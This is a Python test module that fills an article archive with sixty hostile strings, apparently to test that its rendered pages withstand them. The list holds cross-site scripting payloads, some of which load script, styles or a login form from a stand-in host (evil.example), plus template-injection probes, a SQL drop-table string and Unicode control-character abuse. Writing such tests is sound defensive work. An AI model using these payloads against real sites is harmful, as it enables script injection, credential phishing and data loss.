"""Sixty rows that try to be more than text, and an archive whose every field holds them."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from archiver.model import Article, Entity, Mention, Reading, ResolvedMention
from archiver.store import open_archive
from tests.store.conftest import ARTICLE, kept, make_writer

ALERT = "alert(1)"
HOSTILE = [
    # elements
    f"<script>{ALERT}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{ALERT}</script>",
    f"</title><script>{ALERT}</script>", f"</textarea><script>{ALERT}</script>", f"</style><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--", f"]]><script>{ALERT}</script>", f"<script>{ALERT}//", f"<<script>{ALERT}<</script>",
    "<img src=x onerror=alert(1)>", "<img src=//evil.example/pixel.png>", "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Log in</button></form>", "<a href=javascript:alert(1)>click</a>", "<math href=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>", "<plaintext>", "<!--", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # out of attributes, templates, scripts and styles
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)" x="', "' autofocus onfocus=alert(1) '",
    '" style="position:fixed;inset:0;background:red', "`${alert(1)}`", "{{ 7 * 7 }}{% raw %}", "{{ config.__class__ }}", "${alert(1)}",
    "</script><script>alert(1)</script>", "javascript:alert(document.domain)", "JaVaScRiPt&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
    "body{display:none}</style>", "expression(alert(1))", "@import '//evil.example/x.css';", "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;",
    # characters
    "\u202egnihtemos esrever\u202c \u2066isolated", "\u202e" * 50 + "left open", "\u200b\u200e\u200f\ufeffunseen\u2028line\u2029paragraph",
    "Z" + "\u0301\u0316" * 300 + "algo", "NUL \x00 in the middle", "\x01hit\x02 \x1b[31mred\x1b[0m \x0b\x0c\x7f", "BROKEN-SURROGATE",
    "\U000e0041\U000e0042 tags, 🏴\U000e0067\U000e007f", "👩‍👩‍👧‍👦" * 40, "a" * 5_000, "1 MB " + "long title " * 95_325, "'; drop table articles; --",
]  # fmt: skip
SURROGATE = HOSTILE.index("BROKEN-SURROGATE")
BROKEN = b"broken \xed\xa0\xbd surrogate \xff\xfe"  # what no UTF-8 is, as other programs may have written it


def write_hostile(path: Path) -> None:
    """A new archive: one article and one entity a string, in every field that pages fill; each was changed once."""
    db = open_archive(path, create=True)
    writer = make_writer(db)
    for number, text in enumerate(HOSTILE, 1):
        at = datetime(2023, 2, 11, tzinfo=UTC) + timedelta(hours=number)
        for version in ("before", "after"):
            writer.save(kept(_article(number, text, version), at=at), _reading(number, text, version))
            at += timedelta(days=90)
    for table, column in (("articles", "title"), ("articles", "section"), ("versions", "title"), ("versions", "text"),
                          ("entities", "name"), ("aliases", "name"), ("authors", "name"), ("sites", "name")):  # fmt: skip
        db.execute(
            f"update {table} set {column} = cast(? as text) where {column} = ?", [BROKEN, HOSTILE[SURROGATE]]
        )
    db.execute("update entities set description = name")
    for number, text in enumerate(HOSTILE, 1):
        db.execute(
            "insert into failures (source, url, reason, detail, first_failed, last_failed) values (?, ?, 'no article', ?, ?, ?)",
            [f"{number} {text}", text, text, "2023-02-12T08:00:00Z", "2023-02-12T08:00:00Z"],
        )
    db.conn.commit()
    db.close()


def _article(number: int, text: str, version: str) -> Article:
    return replace(
        ARTICLE,
        url=f"http://host{number % 7}.example/{number}?q={text[:200]}",
        title=text,
        summary=f"{text[:3000]}\n{version}",
        text=text
        if number == SURROGATE + 1 and version == "after"
        else f"{version} {text[:20_000]} and Tencent.\n\nThe end, {text[:3000]}",
        byline=text[:3000],
        authors=(text[:3000],),
        section=text[:3000],
        site=text[:3000] if number < 8 or number == SURROGATE + 1 else "",
        captions=(text[:3000],),
        claimed_url=text[:3000],
        headlines=(("h1", text[:3000]), ("og:title", f"{text[:3000]}!")),
        provenance=(("title", text[:3000]),),
        removed=(("tail", text[:3000]),),
        published=datetime(2023, 2, 1 + number % 28, tzinfo=UTC),
    )


def _reading(number: int, text: str, version: str) -> Reading:
    article = _article(number, text, version)
    name = text[:3000]
    own = Entity(name, "PERSON", f"person:{number}", ((f"{name}!", f"person:{number}!"),), name)
    tencent = Entity("Tencent", "ORG", "org:tencent")
    found = []
    for field in ("title", "summary", "text"):
        for surface, entity in ((name, own), ("Tencent", tencent)):
            start = getattr(article, field).find(surface)
            if start >= 0:
                mention = Mention(start, start + len(surface), surface, entity.type, field, surface)
                found.append(ResolvedMention(mention, entity))
    return Reading(article, tuple(found))
